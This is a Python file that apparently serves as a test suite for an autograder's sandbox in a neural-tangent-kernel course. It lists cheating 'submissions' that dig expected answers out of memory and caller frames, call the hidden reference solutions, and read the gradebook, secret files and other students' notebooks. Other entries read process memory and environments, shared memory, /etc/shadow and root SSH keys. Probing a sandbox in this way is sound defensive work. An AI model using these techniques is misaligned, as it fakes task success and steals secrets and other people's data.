"""Looking for the answer, or for what belongs to others: in memory, in modules, in files, in other processes."""

from __future__ import annotations

from corpus.submission import Submission, answers, attempts

__all__ = ["submissions"]


def reads(name: str, about: str, text: str, **more: object) -> Submission:
    return Submission(name, "looking", about, attempts(text), **more)


submissions = [
    Submission(
        "arrays_in_memory",
        "looking",
        "Returns, among all arrays in its process, the one that looks most like an answer.",
        answers("""
def NAME(*given):
    import gc
    import numpy, torch
    own = {id(item) for item in given} | {id(t) for item in given if isinstance(item, list) for t in item}
    found = []
    for item in gc.get_objects():
        inside = list(item.values()) if type(item) is dict else list(item) if type(item) in (list, tuple) else [item]
        for value in inside[:50]:
            if isinstance(value, (numpy.ndarray, torch.Tensor)) and id(value) not in own and value.ndim in (0, 2, 3, 4):
                if str(value.dtype).endswith("float64") and 0 < value.size < 5000 if isinstance(
                    value, numpy.ndarray) else 0 < value.numel() < 5000:
                    found.append(value)
    return found[-1] if found else 0.0
"""),
    ),
    Submission(
        "frames_of_callers",
        "looking",
        "Looks through the frames of its callers for an expected array or a reference to call.",
        answers("""
def NAME(*given):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for name in ("expected", "answer", "target"):
                if hasattr(scope.get(name), "shape"):
                    return scope[name]
            task = scope.get("task")
            if hasattr(task, "reference"):
                return task.reference(*given)
        frame = frame.f_back
    return 0.0
"""),
    ),
    Submission(
        "library_called",
        "looking",
        "Calls the library's own answer to every task.",
        answers("""
def NAME(*given):
    import torch
    import ntk_teach as whole
    from ntk_teach import layers, zoo, activations, empirical
    if "NAME" == "limiting_ntk":
        x, depth, sigma_b = given
        return zoo.mlp(depth, sigma_b=sigma_b).ntk(x)
    if "NAME" == "layer_shares":
        x, depth, sigma_b = given
        dense = [[whole.Dense(sigma_b=sigma_b, trained=i == j) for j in range(depth)] for i in range(depth)]
        rows = [[row[0], *[part for d in row[1:] for part in (whole.relu, d)]] for row in dense]
        return torch.stack([whole.serial(*row).ntk(x) for row in rows])
    from ntk_teach.grading.tasks import exercise
    return next(task for task in exercise("05").tasks if task.name == "NAME").reference(*given)
"""),
    ),
    Submission(
        "references_called",
        "looking",
        "Imports the task files and calls the references, under their own and under forged module names.",
        answers("""
def NAME(*given):
    import importlib, sys
    sys.modules.pop("ntk_teach.grading", None)
    importlib.invalidate_caches()
    sys.path_importer_cache.clear()
    for name in ("ntk_teach.grading.tasks", "ntk_teach.grading.tasks.neural_tangent_kernel", "grading.tasks", "tasks"):
        try:
            module = importlib.import_module(name)
        except Exception:
            continue
        whole = module.exercise("05") if callable(module.exercise) else module.exercise
        return next(task for task in whole.tasks if task.name == "NAME").reference(*given)
    return 0.0
"""),
    ),
    Submission(
        "library_files_found",
        "looking",
        "Searches the disk for files of the library and of its tasks, and runs what it finds.",
        answers(
            """
def NAME(*given):
    import importlib.util, os, sys, time
    until, roots = time.process_time() + 0.4, [*sys.path, $library, sys.base_prefix, "/home", "/srv", "/opt", "/"]
    for root in roots:
        for folder, below, files in os.walk(root):
            below[:] = [name for name in below if name not in ("proc", "sys", "dev", "torch", "numpy", "scipy")]
            if "limiting_kernel.py" in files or ("zoo.py" in files and "gram" in below):
                print("corpus", "escaped", folder, sep="-")
                sys.path[:0] = [os.path.dirname(folder), folder]
                for name in [name for name in sys.modules if name.startswith("ntk_teach")]:
                    del sys.modules[name]
                from ntk_teach.grading.tasks import exercise
                return next(task for task in exercise("05").tasks if task.name == "NAME").reference(*given)
            if time.process_time() > until:
                return 0.0
    return 0.0
""",
            "05.1",
            "05.4",
        ),
    ),
    Submission(
        "library_through_what_is_provided",
        "looking",
        "Goes from ntk.relu and ntk.data through globals, loaders and modules to the rest of the library.",
        answers("""
def NAME(*given):
    import sys, types
    import ntk_teach as ntk
    seen, waiting = set(), [ntk, ntk.relu, type(ntk.relu), ntk.data, *list(sys.modules.values())]
    while waiting and len(seen) < 5000:
        item = waiting.pop()
        if id(item) in seen:
            continue
        seen.add(id(item))
        if getattr(item, "__name__", "") == "mlp" and "NAME" == "limiting_ntk":
            return item(given[1], sigma_b=given[2]).ntk(given[0])
        if isinstance(item, types.FunctionType) and "ntk_teach" in str(item.__module__):
            waiting += list(item.__globals__.values())
        if isinstance(item, (types.ModuleType, type)) and "ntk_teach" in str(getattr(item, "__module__", item)):
            waiting += [value for value in list(vars(item).values())]
            for loader in (getattr(item, "__loader__", None), getattr(getattr(item, "__spec__", None), "loader", None)):
                if loader is not None and isinstance(item, types.ModuleType):
                    for name in ("ntk_teach.zoo", "ntk_teach.gram", "ntk_teach.grading.tasks"):
                        try:
                            waiting.append(loader.load_module(name))
                        except Exception:
                            pass
    return ntk.zoo.mlp(given[1], sigma_b=given[2]).ntk(given[0])
"""),
    ),
    Submission(
        "library_loaded_again",
        "looking",
        "Removes whatever hides the library from sys.modules, sys.meta_path and sys.path_hooks, and imports it anew.",
        answers("""
def NAME(*given):
    import builtins, importlib, importlib._bootstrap_external as external, sys, zipimport
    sys.meta_path[:] = [importlib.machinery.BuiltinImporter, importlib.machinery.FrozenImporter,
                        importlib.machinery.PathFinder]
    sys.path_hooks[:] = [zipimport.zipimporter, external.FileFinder.path_hook(*external._get_supported_file_loaders())]
    builtins.__import__ = importlib.__import__
    sys.path[:0] = [$library, sys.prefix, *[path + "/.." for path in list(sys.path)]]
    sys.path_importer_cache.clear()
    for name in [name for name in sys.modules if name.startswith("ntk_teach")]:
        del sys.modules[name]
    from ntk_teach.grading.tasks import exercise
    return next(task for task in exercise("05").tasks if task.name == "NAME").reference(*given)
"""),
    ),
    Submission(
        "library_in_another_process",
        "looking",
        "Starts a fresh Python, which imports the library that is hidden from this one.",
        answers(
            """
def NAME(*given):
    import io, os, subprocess, sys
    import torch
    bytes_in = io.BytesIO()
    torch.save(given, bytes_in)
    program = (
        "import io, sys\\nsys.path.insert(0, sys.argv[1])\\n"
        "from ntk_teach.grading.tasks import exercise\\nimport torch\\n"
        "given = torch.load(io.BytesIO(sys.stdin.buffer.read()), weights_only=False)\\n"
        "out = next(t for t in exercise('05').tasks if t.name == 'NAME').reference(*given)\\n"
        "torch.save(torch.as_tensor(out), sys.stdout.buffer)"
    )
    for python in dict.fromkeys([sys.executable, $python, "/usr/bin/python3"]):
        try:
            command = [python, "-c", program, $library]
            done = subprocess.run(command, input=bytes_in.getvalue(), capture_output=True, timeout=20)
        except OSError:
            continue
        if done.returncode == 0:
            return torch.load(io.BytesIO(done.stdout))
    return 0.0
""",
            "05.1",
        ),
    ),
    reads(
        "check_inspected",
        "Prints source, globals and closures of check and of whatever module it comes from.",
        """
def attempt():
    import inspect, sys
    from ntk_teach.grading import check
    found = [repr(getattr(check, "__closure__", ""))]
    for item in (check, sys.modules.get(check.__module__)):
        try:
            found.append(inspect.getsource(item))
        except (OSError, TypeError) as error:
            found.append(str(error))
    found += [f"{key} {value!r}"[:2000] for key, value in list(getattr(check, "__globals__", {}).items())]
    return "\\n".join(found)[:100_000]
""",
    ),
    reads(
        "environment_printed",
        "Prints the environment: of this process, at its start, and of every process that it can see.",
        """
def attempt():
    import glob, os
    found = [repr(dict(os.environ))]
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            found.append(open(path, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    return "\\n".join(found)
""",
    ),
    reads(
        "memory_of_processes",
        "Searches the memory of every process that it can see, its own included, for canaries.",
        """
def attempt():
    import glob, os, re, time
    found, until = [], time.process_time() + 0.3
    processes = [path for path in glob.glob("/proc/[0-9]*") if path != f"/proc/{os.getpid()}"] + ["/proc/self"]
    for process in processes:
        try:
            maps = open(process + "/maps").read().splitlines()
            memory = open(process + "/mem", "rb", buffering=0)
        except OSError:
            continue
        for line in maps:
            if " rw" in line and time.process_time() < until:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                try:
                    memory.seek(start)
                    text = memory.read(min(end - start, 1 << 22))
                except (OSError, ValueError, OverflowError):
                    continue
                found += re.findall(rb"canary-[a-z]+-[0-9a-f]{8,}", text)
    return b" ".join(sorted(set(found))).decode()
""",
    ),
    reads(
        "descriptors_of_processes",
        "Lists and reads what every process has open, its own descriptors included.",
        """
def attempt():
    import glob, os, stat
    found = []
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            found.append(f"{path} {os.readlink(path)}")
            if stat.S_ISREG(os.stat(path).st_mode):
                with open(path, "rb") as file:
                    found.append(file.read(20_000).decode(errors="replace"))
        except OSError:
            pass
    return "\\n".join(found)[:200_000]
""",
    ),
    reads(
        "roots_of_processes",
        "Reaches for the course through /proc/<pid>/root, /proc/<pid>/cwd and old mounts.",
        """
def attempt():
    import glob, os
    found = [open("/proc/self/mountinfo").read() if os.path.exists("/proc/self/mountinfo") else ""]
    roots = glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/task/*/root") + ["/old", "/oldroot", "/mnt"]
    for root in roots:
        for path in (f"{root}{$course}/.secret", f"{root}{$planted}", f"{root}/../..{$course}/.secret"):
            try:
                found.append(open(path).read())
            except OSError:
                pass
    for path in glob.glob("/proc/[0-9]*/cwd/*"):
        found.append(path)
    return "\\n".join(found)
""",
    ),
    reads(
        "source_notebooks_read",
        "Reads the author's notebooks by relative and absolute paths.",
        """
def attempt():
    import glob, os
    found, above = [os.getcwd()], "../../../"
    patterns = [above + "source/**/*", above + "release/**/*", $course + "/source/**/*", "/**/05_neural*/*.py"]
    for pattern in patterns[:3]:
        for path in glob.glob(pattern, recursive=True):
            try:
                found.append(open(path, errors="replace").read())
            except OSError:
                pass
    return "\\n".join(found)[:300_000]
""",
    ),
    reads(
        "gradebook_read",
        "Opens the gradebook as a database and as a file, wherever it may lie.",
        """
def attempt():
    import sqlite3
    found = []
    for path in ("../../../gradebook.db", "../../gradebook.db", "gradebook.db", $course + "/gradebook.db"):
        try:
            found.append(open(path, "rb").read().decode("latin-1"))
            with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as book:
                for table in ("grade", "comment", "student"):
                    found.append(str(book.execute(f"select * from {table}").fetchall()))
        except (OSError, sqlite3.Error) as error:
            found.append(str(error))
    return "\\n".join(found)[:500_000]
""",
    ),
    reads(
        "secret_and_state_read",
        "Reads .secret, .state, the configuration and whatever else is hidden in the course's folder.",
        """
def attempt():
    import os
    found = []
    for root in ("../../..", "../..", "..", ".", $course):
        for folder, below, files in os.walk(root):
            below[:] = [name for name in below if name not in ("proc", "sys", "dev", "usr", "lib")][:30]
            for name in files:
                if name.startswith(".secret") or name.endswith((".json", "_config.py", ".txt")):
                    try:
                        found.append(open(os.path.join(folder, name), errors="replace").read(5000))
                    except OSError:
                        pass
            if len(found) > 200:
                break
    return "\\n".join(found)[:300_000]
""",
    ),
    reads(
        "other_submissions_read",
        "Reads what other students handed in, what was already graded, and their feedback.",
        """
def attempt():
    import glob
    found = []
    for root in ("../../..", "../..", $course):
        for kind in ("submitted", "autograded", "feedback", ""):
            for path in glob.glob(f"{root}/{kind}/*/*/*.ipynb")[:60]:
                try:
                    found.append(open(path, errors="replace").read(100_000))
                except OSError:
                    pass
    return "\\n".join(found)[-500_000:]
""",
    ),
    Submission(
        "other_answer_executed",
        "looking",
        "Runs the answers of other students' notebooks, wherever they can be read.",
        answers("""
def NAME(*given):
    import glob, json
    scope = {}
    for root in ("../..", "../../..", $course + "/submitted", $course + "/source"):
        for path in glob.glob(f"{root}/*/*.ipynb") + glob.glob(f"{root}/*/*/*.ipynb"):
            try:
                notebook = json.load(open(path))
            except (OSError, ValueError):
                continue
            for cell in notebook["cells"]:
                text = "".join(cell["source"])
                if "def NAME(" in text and "answer" in str(cell.get("id")) and "BEGIN SOLUTION" in text:
                    exec("import torch, ntk_teach as ntk\\n" + text, scope)
                    return scope["NAME"](*given)
    return 0.0
"""),
    ),
    reads(
        "shared_folders_read",
        "Reads what lies in /tmp, /var/tmp, /dev/shm, /run and the home folder: other kernels' files and sockets too.",
        """
def attempt():
    import os, tempfile
    found = []
    homes = [tempfile.gettempdir(), os.path.dirname($planted), "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~")]
    for root in homes:
        for folder, below, files in os.walk(root):
            if folder.count("/") - root.count("/") > 3:
                below.clear()
            found.append(folder)
            for name in files[:200]:
                path = os.path.join(folder, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 50_000:
                        found.append(open(path, errors="replace").read())
                except OSError:
                    pass
            if len(found) > 2000:
                break
    return "\\n".join(found)[:500_000]
""",
    ),
    reads(
        "shared_memory_read",
        "Attaches all System V segments, POSIX segments and message queues.",
        """
def attempt():
    import ctypes, glob, os
    found = [open(path).read() for path in glob.glob("/proc/sysvipc/*")]
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    for number in range(64):
        address = libc.shmat(number, None, 0o10000)
        if address not in (None, 0xFFFFFFFFFFFFFFFF):
            found.append(ctypes.string_at(address, 64).decode(errors="replace"))
    for path in glob.glob("/dev/shm/*") + glob.glob("/dev/mqueue/*"):
        try:
            found.append(open(path, "rb").read(10_000).decode(errors="replace"))
        except OSError:
            pass
    return "\\n".join(found)
""",
    ),
    reads(
        "folders_watched",
        "Watches the folders of the course and of temporary files with inotify, to learn who is graded beside it.",
        """
def attempt():
    import ctypes, os, time
    libc = ctypes.CDLL(None, use_errno=True)
    watch = libc.inotify_init1(os.O_NONBLOCK)
    for folder in ($course, $course + "/submitted", $course + "/autograded", os.path.dirname($planted), "/proc"):
        libc.inotify_add_watch(watch, folder.encode(), 0xFFF)
    time.sleep(0.1)
    try:
        return os.read(watch, 65536).decode(errors="replace")
    except OSError as error:
        return str(error)
    finally:
        os.close(watch)
""",
    ),
    reads(
        "machine_files_read",
        "Opens the files of the machine that only its owner may read, and its memory.",
        """
def attempt():
    import os
    for path in ("/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/sda",
                 "/proc/1/environ", "/proc/kmsg", "/dev/vda", "/dev/nvme0n1"):
        try:
            with open(path, "rb", buffering=0) as file:
                if file.read(1) and path != "/proc/1/environ":
                    print("corpus", "escaped", path, sep="-")
        except OSError:
            pass
    return repr(os.listdir("/"))
""",
    ),
    reads(
        "core_dumped",
        "Dumps its core, and looks for cores of others.",
        """
def attempt():
    import glob, os, resource
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 20, 1 << 20))
        open("/proc/self/coredump_filter", "w").write("0xff")
    except (OSError, ValueError) as error:
        print(error)
    child = os.fork()
    if child == 0:
        os.abort()
    os.waitpid(child, 0)
    found = []
    for pattern in ("core*", "/tmp/core*", "/var/crash/*", "/var/lib/systemd/coredump/*"):
        found += glob.glob(pattern)
    return " ".join(found)
""",
    ),
    reads(
        "package_downloaded",
        "Lets pip fetch the library from a registry; the test's own listener stands for it.",
        """
def attempt():
    import subprocess, sys
    command = [sys.executable, "-m", "pip", "--retries", "0", "--timeout", "2", "--no-input", "download", "ntk-teach"]
    command += ["--no-deps", "--no-cache-dir", "--index-url", f"http://127.0.0.1:{$port}/simple"]
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=15)
    except (OSError, subprocess.TimeoutExpired) as error:
        return str(error)
    return done.stdout[-2000:] + done.stderr[-2000:]
""",
    ),
    reads(
        "own_notebook_read",
        "Looks for its own notebook with hidden tests, and for anything else in its working folder and above.",
        """
def attempt():
    import os
    found = []
    for root in (".", "..", "../..", os.path.expanduser("~")):
        for folder, below, files in os.walk(root):
            below[:] = below[:20] if folder.count("/") < 4 else []
            found += [os.path.join(folder, name) for name in files[:50]]
            for name in files:
                if name.endswith((".ipynb", ".json")):
                    try:
                        found.append(open(os.path.join(folder, name), errors="replace").read(20_000))
                    except OSError:
                        pass
            if len(found) > 1000:
                break
    return "\\n".join(found)[:200_000]
""",
    ),
    reads(
        "history_and_globals_printed",
        "Prints IPython's history, all variables, all modules' names and all strings that the collector knows.",
        """
def attempt():
    import gc, sys
    shell = get_ipython()
    found = [repr(list(shell.history_manager.get_range(raw=True)))[:5000] if shell.history_manager else ""]
    found += [repr(sorted(sys.modules))[:20_000], repr(sys.argv), repr(sys.path)]
    for item in gc.get_objects():
        if type(item) is dict:
            found += [v for v in list(item.values()) if isinstance(v, str) and ("canary" in v or "secret" in v.lower())]
        if len(found) > 3000:
            break
    return "\\n".join(map(str, found))[:300_000]
""",
    ),
]
